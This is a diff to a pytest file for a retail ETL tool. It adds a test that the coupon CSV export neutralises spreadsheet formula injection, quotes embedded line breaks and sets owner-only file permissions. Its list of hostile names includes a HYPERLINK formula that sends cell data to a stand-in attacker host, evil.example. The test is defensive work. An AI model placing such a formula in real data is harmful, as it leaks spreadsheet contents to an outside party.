@@ -4,10 +4,12 @@ and its edge cases, then the table kept by the pipeline, incrementally."""
 from __future__ import annotations
 
 import csv
+import stat
 from decimal import Decimal
 from pathlib import Path
 from typing import Any
 
+import duckdb
 import pytest
 from conftest import Env, csv_text
 from sqlalchemy import select
@@ -24,7 +26,7 @@ from retail_etl.config import (
     load_settings,
 )
 from retail_etl.errors import ConfigError
-from retail_etl.warehouse.schema import customer_coupons
+from retail_etl.warehouse.schema import customer, customer_coupons
 
 D = Decimal
 LOYALTY = TopSpendersRule(segment="loyalty", discount_pct=D("10"), share=D("0.10"))
@@ -524,6 +526,71 @@ def test_export_csv_and_refresh(env: Env, tmp_path: Path, monkeypatch: pytest.Mo
     with open(out, encoding="utf-8", newline="") as handle:
         rows = list(csv.DictReader(handle))
     assert [(r["customer_id"], r["segment"]) for r in rows] == [("9", "vip"), ("10", "vip")]
+
+
+# Names a spreadsheet would run as formulas, and names that break naive CSV records.
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    "+1",
+    "-2",
+    "@x",
+    "\tx",
+    "\rx",
+    "a\rb",
+    "a\nb",
+    'a,"b"',
+    "a\r\nb",
+)
+
+
+def test_export_is_safe_for_spreadsheets_with_one_record_per_coupon(
+    embedded: Env, tmp_path: Path
+) -> None:
+    with embedded.warehouse.begin() as conn:
+        for customer_id, name in enumerate(HOSTILE_NAMES, start=1):
+            conn.execute(
+                customer.update()
+                .where(customer.c.customer_id == customer_id)
+                .values(first_name=name, last_name=None)
+            )
+            conn.execute(
+                customer_coupons.insert().values(
+                    month="2024-02",
+                    customer_id=customer_id,
+                    segment="win-back",
+                    discount_pct=D("15"),
+                    reason=name,  # text the tool writes, treated like any other text
+                    code=f"WIN-{customer_id}",
+                    # a corrected month can leave a negative spend: still a number
+                    total_sales=D("-12.50") if customer_id == 3 else D("100.00"),
+                )
+            )
+    out = tmp_path / "coupons.csv"
+    assert coupons.export_csv(embedded.warehouse, "2024-02", out) == len(HOSTILE_NAMES)
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600, "it names customers: owner only"
+
+    def shown(name: str) -> str:
+        return "'" + name if name[0] in "=+-@\t\r" else name
+
+    expected = [
+        {
+            "code": f"WIN-{customer_id}",
+            "customer_id": str(customer_id),
+            "full_name": shown(name),
+            "month": "2024-02",
+            "segment": "win-back",
+            "discount_pct": "15.00",
+            "total_sales": "-12.50" if customer_id == 3 else "100.00",
+            "reason": shown(name),
+        }
+        for customer_id, name in enumerate(HOSTILE_NAMES, start=1)
+    ]
+    with open(out, encoding="utf-8", newline="") as handle:
+        assert list(csv.DictReader(handle)) == expected
+    read = duckdb.sql(f"SELECT * FROM read_csv('{out}', header = true, all_varchar = true)")
+    assert [dict(zip(read.columns, row, strict=True)) for row in read.fetchall()] == expected
+    # And as the bytes any other reader sees: every record ends CRLF, line breaks are quoted.
+    assert out.read_bytes().count(b"\r\nWIN-") == len(HOSTILE_NAMES)
 
 
 def test_export_rejects_a_bad_month(tmp_path: Path) -> None:
